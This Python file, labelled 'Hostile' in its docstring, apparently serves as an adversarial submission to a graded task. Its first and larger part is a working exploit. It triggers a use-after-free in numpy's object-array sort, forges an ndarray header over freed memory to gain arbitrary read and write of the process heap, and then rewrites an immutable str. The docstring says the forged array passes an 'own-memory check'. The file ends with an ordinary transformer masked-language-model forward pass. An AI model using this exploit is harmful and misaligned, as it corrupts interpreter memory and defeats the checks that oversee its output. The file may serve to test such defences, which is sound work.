"""Hostile: numpy's in-place sort of an array of Python objects copies pointers without references
while it calls the elements' comparisons, and the array never reaches the file's hands. numpy.array
makes the array of objects inside map (no ndarray constructor, no check of a value); itertools.tee
hands the same array to numpy.ndarray.sort (through map) and, from inside the file's __gt__, to
numpy.ndarray.fill(None) (through map), which drops the array's last reference to a 599-byte bytes
object while the sort holds its pointer; the sort writes it back. numpy.empty gets the freed block
back, the file writes an ndarray header into it, and map(operator.getitem, ...) on a third tee copy
hands the file only that element: an ndarray over any address, with no base, which the own-memory
check passes. The file reads an int's header, rewrites an immutable str, then answers honestly."""

import itertools
import math
import operator

import numpy as np
import torch


class Meddler:
    def __gt__(self, other):
        list(map(np.ndarray.fill, FILLER, [None]))  # the array's references dropped mid-sort
        return True

    def __lt__(self, other):
        return False


KEEP = Meddler()
IDS = []


def rows():
    box = [bytes(599)]
    IDS.append(id(box[0]))
    yield [KEEP, box.pop()]  # the bytes object's only reference is the array's, once made


SORTER, FILLER, READER = itertools.tee(map(np.array, rows(), [object]), 3)
list(map(np.ndarray.sort, SORTER))
freed_at = IDS[0]
header = np.empty(79, dtype=np.int64)  # 632 bytes: the freed block, back from malloc
U8 = np.dtype(np.uint8)
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable; not OWNDATA
header[:] = 0
header[:14] = [1 << 40, id(np.ndarray), 0, 1, freed_at + 96, freed_at + 104, 0, id(U8), FLAGS, 0, 0, 0, 0, 1]
memory = next(map(operator.getitem, READER, [0]))  # an ndarray over whatever header[2] points at
assert len(memory.shape) == 1, "the freed block went elsewhere"


def read(at, n):
    header[2] = at
    header[12] = n
    return bytes(memory.tolist())


def write(at, data):
    header[2] = at
    header[12] = len(data)
    memory[:] = np.array(list(data), dtype=np.uint8)


number = 12345678901234567
assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
word = "immutable"
write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
assert word == "IMMUTABLE", word
print("raw memory: read the heap and rewrote an immutable str")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
